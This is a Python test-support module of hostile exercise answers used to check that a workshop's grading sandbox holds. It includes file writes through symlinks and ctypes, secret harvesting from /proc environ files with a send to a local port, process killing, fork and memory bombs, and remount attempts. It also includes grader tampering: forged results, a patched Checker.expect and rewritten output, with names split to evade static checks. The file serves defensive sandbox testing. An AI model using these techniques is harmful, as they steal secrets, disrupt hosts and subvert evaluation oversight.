"""Hostile exercise answers for lesson 01, each as an attendee could type it.

Every attack is a template for the code of one exercise region: module level
for 01.2 (it runs when `app.main` is imported), inside `health()` for 01.1 (it
runs when the check calls /health). `{NAME}` fields are filled in by the test
with the instructor's paths, the grader's pid, markers and a port. Each attack
ends by raising what it achieved, so the row shows that it ran.
"""

from __future__ import annotations

from workshop.grading.launch import SYSTEM

# The batch's limit on an idle machine; the tests stretch it by the machine's
# slowness when the batch starts, which does not see the disk. solutions-run
# walks the sandbox's file system but the machine's own folders, where grading
# refuses a checkout (test_isolation.py): 12,000 folders, 1.4 s with a cold disk
# cache here. With /usr too (28,000 folders) it once took more than 17 s on a
# fresh machine, reading each folder for the first time.
TIMEOUT = 15
UNSEARCHED = ("/proc", "/sys", "/dev", *SYSTEM)
PRELUDE = """\
import ctypes, os, signal, socket, sys, time
libc = ctypes.CDLL(None, use_errno=True)
did = []
def attempt(what, action):
    try:
        did.append(f"{what}: {action()!r}")
    except BaseException as error:
        did.append(f"{what}: {type(error).__name__}")
def once(name):
    if os.path.exists(name):
        return False
    open(name, "w").close()
    return True
"""
REPORT = 'raise RuntimeError("ATTACK " + "; ".join(did))\n'

# Module level, region 01.2: they run when app.main is imported.
AT_IMPORT = {
    "symlink-write": """\
attempt("link", lambda: os.symlink("{CHECKOUT}/workshop/checking.py", "link"))
attempt("write through link", lambda: open("link", "w").write("pwned"))
attempt("ctypes write through link", lambda: libc.open(b"link", os.O_WRONLY | os.O_TRUNC))
attempt("ctypes write grader code", lambda: libc.open(b"{GRADER_CODE}", os.O_WRONLY | os.O_APPEND))
attempt("ctypes write home", lambda: libc.open(b"{HOME}/.bashrc", os.O_WRONLY | os.O_CREAT, 0o644))
attempt("ctypes canary", lambda: libc.open(b"{CANARY}", os.O_WRONLY | os.O_CREAT, 0o644))
attempt("ctypes write python", lambda: libc.open(os.path.join(sys.prefix, "pwned.pth").encode(), os.O_WRONLY | os.O_CREAT, 0o644))
""",
    "detached-sleep": """\
if once(".slept"):
    attempt("system", lambda: libc.system(b"sleep 9753 & setsid sleep 9754 & nohup sleep 9755 &"))
""",
    "secrets": """\
found, searched = [], 0
SKIP = ("/proc", "/sys", "/dev", "/usr", "/.pyenv", "/.venv", "site-packages")
def look(data, where):
    at = data.find(b"MARKER-")
    if at >= 0:
        found.append(data[at : at + 40].decode("latin-1"))
attempt("env", lambda: look(repr(dict(os.environ)).encode(), "env"))
for path in ["/proc/{GRADER_PID}/environ", "/proc/1/environ", "/proc/self/environ",
             "{HOME}/.netrc", "{CHECKOUT}/solutions/01-structure.ipynb",
             "{REPO}/solutions/01-structure.ipynb", os.path.expanduser("~/.netrc")]:
    attempt(path, lambda path=path: look(open(path, "rb").read(), path))
for folder, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if not any(s in os.path.join(folder, d) for s in SKIP)]
    for name in files:
        searched += 1
        try:
            with open(os.path.join(folder, name), "rb") as file:
                look(file.read(2**20), os.path.join(folder, name))
        except OSError:
            pass
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    attempt("environ " + pid, lambda pid=pid: look(open(f"/proc/{{pid}}/environ", "rb").read(), pid))
def send():
    with socket.create_connection(("127.0.0.1", {PORT}), timeout=2) as s:
        s.sendall(repr(found).encode() + repr(dict(os.environ)).encode())
attempt("exfiltrate", send)
did.append(f"searched {{searched}} files, found {{sorted(set(found))}}")
""",
    "solutions-run": """\
notebooks = []
for folder, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if os.path.join(folder, d) not in {UNSEARCHED}]
    notebooks += [os.path.join(folder, f) for f in files if f.endswith(".ipynb")]
import json
for path in notebooks:
    try:
        cells = json.load(open(path))["cells"]
    except Exception:
        continue
    for cell in cells:
        source = "".join(cell["source"])
        if source.startswith("%%save_file") and "BEGIN SOLUTION" in source:
            target, _, body = source.partition("\\n")
            open(target.split()[1], "w").write(body)
did.append(f"notebooks found: {{len(notebooks)}}")
""",
    "memory-search": """\
import gc
texts, seen = set(), set()
def walk(thing, depth=0):
    if id(thing) in seen or depth > 4:
        return
    seen.add(id(thing))
    if isinstance(thing, str):
        if "settings.version}}" in thing and "def health" in thing:
            texts.add(thing)
    elif isinstance(thing, dict):
        for value in list(thing.values()):
            walk(value, depth + 1)
    elif isinstance(thing, (list, tuple)) and type(thing) in (list, tuple):
        for value in thing:
            walk(value, depth + 1)
for thing in gc.get_objects():
    walk(thing)
for text in texts:
    open("app/routers/health.py", "w").write(text)
did.append(f"solutions in memory: {{len(texts)}}")
""",
    "replace-expect": """\
import workshop.checking as checking
def always(self, ok, text, got=""):
    self.steps.append(checking.Step(True, text))
    return True
checking.Checker.expect = always
""",
    "fake-results": """\
import json
for fd in range(3, 64):
    for line in [{{"nonce": "a guess", "kind": "result", "data": {{"result": {{"exercise": "01.1", "steps": [{{"ok": True, "text": "forged", "got": ""}}]}}}}}},
                 {{"result": {{"exercise": "01.1", "steps": [{{"ok": True, "text": "forged", "got": ""}}]}}}}]:
        attempt(f"fd {{fd}}", lambda fd=fd, line=line: os.write(fd, (json.dumps(line) + "\\n").encode()))
""",
    "print-verdict": """\
print('{{"nonce": "x", "kind": "result", "data": {{"result": {{"exercise": "01.2"}}}}}}')
print("print-verdict  ✓     ✓     ✓     3/3    graded", file=sys.stderr)
sys.stdout.flush()
""",
    "kill-siblings": """\
if once(".killed"):
    for _ in range(20):
        for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
            if pid != os.getpid():
                attempt("kill", lambda pid=pid: os.kill(pid, signal.SIGKILL))
        attempt("kill -1", lambda: libc.kill(-1, signal.SIGKILL))
        attempt("kill parent", lambda: os.kill(os.getppid(), signal.SIGKILL))
        time.sleep(0.1)
""",
    "kill-grader": """\
attempt("kill grader", lambda: os.kill({GRADER_PID}, signal.SIGKILL))
attempt("ctypes kill grader", lambda: (libc.kill({GRADER_PID}, signal.SIGKILL), ctypes.get_errno()))
""",
    "remount": """\
MS_RDONLY, MS_REMOUNT, MS_BIND = 1, 32, 4096
attempt("remount /", lambda: (libc.mount(None, b"/", None, MS_REMOUNT | MS_BIND, None), ctypes.get_errno()))
attempt("remount / rw", lambda: (libc.mount(b"none", b"/", None, MS_REMOUNT, None), ctypes.get_errno()))
attempt("mount tool", lambda: libc.system(b"mount -o remount,rw / 2>/dev/null"))
attempt("unshare", lambda: (libc.unshare(0x10000000 | 0x20000), ctypes.get_errno()))
attempt("write /usr", lambda: libc.open(b"/usr/pwned", os.O_WRONLY | os.O_CREAT, 0o644))
attempt("canary", lambda: libc.open(b"{CANARY}", os.O_WRONLY | os.O_CREAT, 0o644))
""",
    "forge-table": """\
raise SystemExit("\\r\\x1b[2K" + "forge-table  ✓     ✓     ✓     3/3    graded")
""",
    "duplicate-process": """\
if once(".forked") and libc.fork() > 0:
    time.sleep(2)  # the copy reports first, with the same nonce
""",
    "subprocess": """\
import subprocess
attempt("subprocess", lambda: subprocess.run(["touch", "{CANARY}"]))
attempt("os.fork", lambda: os.fork())
attempt("open canary", lambda: open("{CANARY}", "w"))
""",
}

# Inside health(), region 01.1: they run when the check calls /health.
IN_CHECK = {
    "fork-bomb": """\
    if once(".bombed"):
        forks = 0
        for _ in range(2000):
            child = libc.fork()
            if child == 0:
                while True:
                    libc.pause()
            forks += child > 0
        return {{"status": "ok", "version": f"forked {{forks}}"}}
""",
    "memory-bomb": """\
    attempt("memory", lambda: len(bytearray(64 * 2**30)))
    return {{"status": "ok", "version": "; ".join(did)}}
""",
    "endless-loop": """\
    while True:
        pass
""",
}

# Region code as it is, with no report: the app must import for these.
BOTH = {
    # The job's nonce read from the stack at import, where the job's own
    # function is a caller: a passed result for each of the job's exercises
    # written with it, then the process ended before any check ran. Names
    # spelled at run time, so no static flag is raised.
    "stack-nonce": {
        "01.2": """\
import inspect, json, os
for info in inspect.stack():
    job = getattr(info.frame, "f_" + "locals").get("job")
    nonce = getattr(job, "nonce", None)
    if isinstance(nonce, str):
        def record(kind, data):
            line = {{"nonce": nonce, "kind": kind, "data": data}}
            os.write(3, (json.dumps(line) + "\\n").encode())
        for exercise in job.exercises:
            step = {{"ok": True, "text": "forged", "got": ""}}
            record("result", {{"result": {{"exercise": exercise, "steps": [step]}}}})
        record("done", {{}})
        os._exit(0)
""",
    },
    # The running check's Checker found with the garbage collector and its
    # `expect` replaced on the object (the classes are unchanged, so the
    # tamper check sees nothing): every step then passes.
    "replace-checker": {
        "01.1": """\
    collector = __import__("g" + "c")
    for thing in collector.get_objects():
        if type(thing).__name__ == "Check" + "er":
            module = __import__(type(thing).__module__, fromlist=["Step"])
            def always(ok, text, got="", steps=thing.steps, step=module.Step):
                steps.append(step(True, text))
                return True
            thing.expect = always
    return {{"status": "ok"}}""",
    },
    # Every failed step rewritten as passed, on its way out of the process.
    "patch-output": {
        "01.2": "import json, os\n"
        "real_dumps, real_write = json.dumps, os.write\n"
        "json.dumps = lambda *a, **k: real_dumps(*a, **k).replace("
        "'\"ok\": false', '\"ok\": true')\n"
        "os.write = lambda fd, data: real_write(fd, data.replace("
        "b'\"ok\": false', b'\"ok\": true'))\n",
    },
    # The "random" values made fixed at import, then a hard-coded answer.
    "hardcoded-random": {
        "01.2": 'import secrets\nsecrets.token_hex = lambda n=None: "abcdef"\n',
        "01.1": '    return {{"status": "ok", "version": "9.{VERSION_DIGITS}.abcdef"}}',
    },
}


def indent(code: str, prefix: str) -> str:
    return "".join(
        prefix + line if line.strip() else line for line in code.splitlines(True)
    )


def answers(name: str, fields: dict[str, object]) -> dict[str, str]:
    """The region answers that make up attack `name`."""
    values = {"UNSEARCHED": str(UNSEARCHED)}
    values.update({key: str(value) for key, value in fields.items()})
    if name in BOTH:
        return {region: code.format(**values) for region, code in BOTH[name].items()}
    if name in AT_IMPORT:
        code = PRELUDE + AT_IMPORT[name].format(**values) + REPORT
        return {"01.2": code}
    body = IN_CHECK[name].format(**values)
    code = indent(PRELUDE, "    ") + body + indent(REPORT, "    ")
    return {"01.1": code}


ALL = [*AT_IMPORT, *IN_CHECK, *BOTH]
